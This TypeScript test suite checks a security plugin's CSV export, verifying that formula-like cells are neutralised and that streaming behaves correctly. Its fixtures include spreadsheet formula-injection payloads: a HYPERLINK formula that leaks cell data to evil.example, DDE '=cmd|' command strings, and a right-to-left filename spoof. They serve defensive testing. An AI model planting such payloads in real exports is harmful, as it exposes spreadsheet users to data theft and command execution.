import { parse } from 'csv-parse/sync';
import { Readable } from 'node:stream';
import { Finding } from '@security-posture/plugin-security-posture-common';
import { countsCsv, FINDING_CSV_COLUMNS, findingsCsv } from './csv';

async function collect(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) {
    chunks.push(typeof chunk === 'string' ? Buffer.from(chunk, 'utf8') : chunk);
  }
  // Decode once at the end: a multi-byte character may span two chunks.
  return Buffer.concat(chunks).toString('utf8');
}

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, relax_quotes: false });
}

function headerOf(text: string): string[] {
  return parse(text, { to_line: 1, relax_quotes: false })[0];
}

async function* pagesOf(...pages: Finding[][]): AsyncIterable<Finding[]> {
  for (const page of pages) yield page;
}

function finding(overrides: Partial<Finding> = {}): Finding {
  return {
    fingerprint: 'fp-0',
    checkId: 'catalog/leaked-secret',
    category: 'catalog',
    severity: 'high',
    outcome: 'fail',
    status: 'open',
    title: 'Leaked token',
    message: 'A token is in the entity',
    target: { type: 'entity', entityRef: 'component:default/svc' },
    location: 'metadata.annotations.x',
    entityRef: 'component:default/svc',
    entityKind: 'Component',
    owners: ['group:default/team-a'],
    evidence: {},
    remediation: 'Rotate it',
    firstSeenAt: '2026-11-01T00:00:00.000Z',
    lastSeenAt: '2026-11-02T00:00:00.000Z',
    ...overrides,
  };
}

// What a spreadsheet would evaluate as a formula (or DDE) when a cell starts with it.
const RISKY = /^[=+\-@\t\r]/;
const neutralized = (value: string) => (RISKY.test(value) ? `'${value}` : value);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1+1 after a tab',
  '\r=cmd|\' /C calc\'!A0',
  '=',
  'he said "hi", then left',
  '"starts with a quote',
  ',starts with a comma',
  'line one\nline two',
  'crlf one\r\ncrlf two\r\n',
  'trailing space ',
  ' =leading space then equals',
  "'already quoted",
  'emoji 🔥 and a family 👩‍👩‍👧‍👦',
  'مرحبا بالعالم \u202Eevil.exe\u202C',
  'combining e\u0301 a\u0300 Z\u0351\u036B',
  '',
];

describe('findingsCsv', () => {
  it('round-trips hostile cells, neutralising only formula-like ones', async () => {
    const findings: Finding[] = [];
    const expected: Record<string, string>[] = [];
    HOSTILE.forEach((text, i) => {
      const evidenceValue = HOSTILE[(i + 3) % HOSTILE.length];
      const f = finding({
        fingerprint: `fp-${i}`,
        severity: i % 2 ? 'critical' : 'low',
        title: text,
        message: HOSTILE[(i + 1) % HOSTILE.length],
        location: HOSTILE[(i + 2) % HOSTILE.length],
        evidence: { secretMask: evidenceValue },
        owners: i % 3 ? ['group:default/team-a', 'user:default/bob'] : [],
        resolvedAt: i % 4 ? undefined : '2026-11-03T00:00:00.000Z',
        status: i % 4 ? 'open' : 'resolved',
        docsUrl: i % 5 ? undefined : 'https://example.com/docs',
      });
      findings.push(f);
      expected.push({
        severity: f.severity,
        category: 'catalog',
        checkId: 'catalog/leaked-secret',
        status: f.status,
        outcome: 'fail',
        title: neutralized(text),
        message: neutralized(f.message),
        entityRef: 'component:default/svc',
        entityKind: 'Component',
        owners: f.owners.join(' '),
        target: 'component:default/svc',
        location: neutralized(f.location ?? ''),
        evidence: `secretMask=${evidenceValue}`,
        remediation: 'Rotate it',
        docsUrl: f.docsUrl ?? '',
        firstSeenAt: '2026-11-01T00:00:00.000Z',
        lastSeenAt: '2026-11-02T00:00:00.000Z',
        resolvedAt: f.resolvedAt ?? '',
        fingerprint: `fp-${i}`,
      });
    });

    // Evidence cells that themselves start risky, arrays with commas, and other target kinds.
    findings.push(
      finding({
        fingerprint: 'fp-evidence',
        title: '-negative',
        message: 'plain',
        location: undefined,
        evidence: { '=key': 'value', list: ['a,b', '"c"', '\nd'], n: 3, ok: true, none: null },
        target: { type: 'config', path: 'auth.environment' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
      }),
      finding({
        fingerprint: 'fp-package',
        message: '@mention',
        target: { type: 'package', name: '@backstage/plugin-auth-backend', version: '0.1.0' },
        entityRef: undefined,
        entityKind: undefined,
        owners: [],
        evidence: {},
      }),
    );
    expected.push(
      {
        ...expected[0],
        fingerprint: 'fp-evidence',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: "'-negative",
        message: 'plain',
        location: '',
        evidence: `'=key=value; list=a,b,"c",\nd; n=3; ok=true; none=null`,
        target: 'config:auth.environment',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
      {
        ...expected[0],
        fingerprint: 'fp-package',
        severity: 'high',
        status: 'open',
        resolvedAt: '',
        docsUrl: '',
        title: 'Leaked token',
        message: "'@mention",
        location: 'metadata.annotations.x',
        evidence: '',
        target: 'package:@backstage/plugin-auth-backend@0.1.0',
        entityRef: '',
        entityKind: '',
        owners: '',
      },
    );

    const text = await collect(
      findingsCsv(pagesOf(findings.slice(0, 5), [], findings.slice(5))),
    );

    expect(headerOf(text)).toEqual([...FINDING_CSV_COLUMNS]);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(findings.length);
    expect(rows).toEqual(expected);
    // The hostile values really were hostile: the neutralisation was exercised.
    expect(rows.filter(r => r.title.startsWith("'")).length).toBeGreaterThanOrEqual(7);
    for (const row of rows) {
      expect(Object.keys(row)).toEqual([...FINDING_CSV_COLUMNS]);
      for (const cell of Object.values(row)) {
        expect(cell).not.toMatch(RISKY);
      }
    }
  });

  it('propagates a failure of the page source as a stream error', async () => {
    async function* failing(): AsyncIterable<Finding[]> {
      yield [finding({ fingerprint: 'a' }), finding({ fingerprint: 'b' })];
      throw new Error('database went away');
    }
    const stream = findingsCsv(failing());
    await expect(collect(stream)).rejects.toThrow('database went away');
    expect(stream.destroyed).toBe(true);
    expect(stream.readableEnded).toBe(false);
  });

  it('streams many pages without reading ahead of the consumer', async () => {
    const PAGES = 50;
    const PER_PAGE = 200;
    let pulled = 0;
    async function* many(): AsyncIterable<Finding[]> {
      for (let p = 0; p < PAGES; p++) {
        pulled += 1;
        yield Array.from({ length: PER_PAGE }, (_, i) =>
          finding({
            fingerprint: `fp-${p}-${i}`,
            message: `finding ${i} of page ${p}: "quoted", and\nmultiline =x`,
          }),
        );
      }
    }
    const stream = findingsCsv(many());

    // Nobody reads yet: back-pressure must stop the producer after a few pages.
    for (let i = 0; i < 20; i++) await new Promise(resolve => setImmediate(resolve));
    expect(pulled).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(PAGES / 2);

    const rows = parseCsv(await collect(stream));
    expect(pulled).toBe(PAGES);
    expect(rows).toHaveLength(PAGES * PER_PAGE);
    expect(new Set(rows.map(r => r.fingerprint)).size).toBe(PAGES * PER_PAGE);
    expect(rows[0].fingerprint).toBe('fp-0-0');
    expect(rows[rows.length - 1]).toMatchObject({
      fingerprint: `fp-${PAGES - 1}-${PER_PAGE - 1}`,
      message: `finding ${PER_PAGE - 1} of page ${PAGES - 1}: "quoted", and\nmultiline =x`,
    });
  });
  it('stops reading pages when the consumer goes away', async () => {
    let pulled = 0;
    let closed = false;
    async function* endless(): AsyncIterable<Finding[]> {
      try {
        for (let p = 0; ; p++) {
          pulled += 1;
          yield Array.from({ length: 200 }, (_, i) => finding({ fingerprint: `fp-${p}-${i}` }));
        }
      } finally {
        closed = true;
      }
    }
    const stream = findingsCsv(endless());
    const firstChunk = await new Promise(resolve => stream.once('data', resolve));
    expect(String(firstChunk)).toContain('severity,category,checkId');
    stream.destroy(); // e.g. the HTTP client disconnected mid-download

    for (let i = 0; i < 50 && !closed; i++) {
      await new Promise(resolve => setImmediate(resolve));
    }
    expect(closed).toBe(true);
    const pulledWhenClosed = pulled;
    await new Promise(resolve => setTimeout(resolve, 20));
    expect(pulled).toBe(pulledWhenClosed);
  });
});

describe('countsCsv', () => {
  it('writes one neutralised row per severity', async () => {
    const text = await collect(
      countsCsv('=cmd|calc', { critical: 1, high: 2, medium: 0, low: 4, info: 5 }),
    );
    expect(headerOf(text)).toEqual(['entityRef', 'severity', 'openFindings']);
    expect(parseCsv(text)).toEqual([
      { entityRef: "'=cmd|calc", severity: 'critical', openFindings: '1' },
      { entityRef: "'=cmd|calc", severity: 'high', openFindings: '2' },
      { entityRef: "'=cmd|calc", severity: 'medium', openFindings: '0' },
      { entityRef: "'=cmd|calc", severity: 'low', openFindings: '4' },
      { entityRef: "'=cmd|calc", severity: 'info', openFindings: '5' },
    ]);
  });
});
